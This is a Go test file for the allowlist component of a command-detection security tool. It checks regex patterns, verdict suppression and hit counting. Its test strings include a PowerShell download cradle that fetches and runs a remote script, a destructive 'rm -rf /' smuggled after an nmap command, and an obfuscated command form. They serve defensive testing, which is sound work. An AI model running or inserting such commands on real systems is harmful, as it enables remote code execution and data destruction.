package allowlist

import (
	"context"
	"io"
	"log/slog"
	"regexp"
	"testing"

	"github.com/vigilsec/vigil/internal/command/detect"
	"github.com/vigilsec/vigil/internal/store"
)

func TestPatternFor(t *testing.T) {
	tests := []struct {
		command string
		matches []string
		misses  []string
	}{
		{"nmap -sn 10.0.0.0/24",
			[]string{"nmap -sn 10.0.0.0/24", "  nmap\t-sn   10.0.0.0/24 "},
			[]string{"nmap -sn 10.0.0.0/24; rm -rf /", "nmap -sn 10.0.0.0/16", "nmap -sn 10a0.0.0/24", "xnmap -sn 10.0.0.0/24"}},
		{`powershell -c "(New-Object Net.WebClient).DownloadString('http://x/a.ps1')"`,
			[]string{`powershell -c "(New-Object Net.WebClient).DownloadString('http://x/a.ps1')"`},
			[]string{`powershell -c "(New-Object Net.WebClient).DownloadString('http://y/a.ps1')"`}},
		{"a.*b [x]", []string{"a.*b [x]"}, []string{"aXXb x", "a.*b x"}},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			re := regexp.MustCompile(PatternFor(tt.command))
			for _, m := range tt.matches {
				if !re.MatchString(m) {
					t.Errorf("%s does not match %q", re, m)
				}
			}
			for _, m := range tt.misses {
				if re.MatchString(m) {
					t.Errorf("%s matches %q", re, m)
				}
			}
		})
	}
}

func verdict(cmd, label string, deob *string) *detect.Verdict {
	return &detect.Verdict{Command: cmd, Label: label, Action: "requires_context", Reason: "model_suspicious",
		Confidence: 0.8, Scores: detect.Scores{Benign: 0.2, Suspicious: 0.7, Malicious: 0.1}, Deobfuscated: deob}
}

func TestApply(t *testing.T) {
	l := New()
	l.Add(store.AllowRule{ID: "alw_1", Pattern: PatternFor("nmap -sn 10.0.0.0/24"), Regex: true, Detector: "command"})
	l.Add(store.AllowRule{ID: "alw_2", Pattern: "whoami   /all", Detector: "http"}) // another detector's rule
	deob := "nmap -sn 10.0.0.0/24"
	tests := []struct {
		name       string
		v          *detect.Verdict
		suppressed bool
	}{
		{"raw command matches", verdict("nmap -sn 10.0.0.0/24", "Suspicious", nil), true},
		{"deobfuscated form matches", verdict(`n""map -sn 10.0.0.0/24`, "Suspicious", &deob), true},
		{"benign verdicts are left alone", verdict("nmap -sn 10.0.0.0/24", "Benign", nil), false},
		{"other detectors' rules do not apply", verdict("whoami /all", "Malicious", nil), false},
		{"other commands are not allowed", verdict("nmap -sS 10.0.0.0/24", "Suspicious", nil), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			label := tt.v.Label
			got := l.Apply(tt.v)
			switch {
			case got != tt.suppressed:
				t.Fatalf("Apply = %v, want %v", got, tt.suppressed)
			case got && (tt.v.Label != "Benign" || tt.v.Action != "pass" || tt.v.Reason != Reason || tt.v.Evidence[0].ID != "allow:alw_1" || tt.v.Confidence != 0.5):
				t.Errorf("suppressed verdict %+v", tt.v)
			case !got && tt.v.Label != label:
				t.Errorf("verdict changed without a match: %+v", tt.v)
			}
		})
	}
}

func TestHitsFlushAndSurviveReload(t *testing.T) {
	st, err := store.Open(context.Background(), "", t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx := context.Background()
	r, err := st.CreateAllowRule(ctx, store.AllowRule{Pattern: PatternFor("id"), Regex: true, Detector: Detector})
	if err != nil {
		t.Fatal(err)
	}
	l, log := New(), slog.New(slog.NewTextHandler(io.Discard, nil))
	if err := l.Reload(ctx, st, log); err != nil || l.Len() != 1 {
		t.Fatalf("reload: %v, %d rules", err, l.Len())
	}
	l.Match(Detector, "id")
	l.Match(Detector, "id")
	if err := l.Reload(ctx, st, log); err != nil { // unflushed hits are kept
		t.Fatal(err)
	}
	l.Match(Detector, "id")
	if err := l.FlushHits(ctx, st); err != nil {
		t.Fatal(err)
	}
	l.FlushHits(ctx, st) // nothing new: no double counting
	rules, _ := st.ListAllowRules(ctx)
	if len(rules) != 1 || rules[0].ID != r.ID || rules[0].Hits != 3 {
		t.Errorf("rules after flush %+v, want 3 hits", rules)
	}
	if found, ok := l.Find(PatternFor("id"), true); !ok || found.ID != r.ID {
		t.Errorf("Find: %+v %v", found, ok)
	}
}
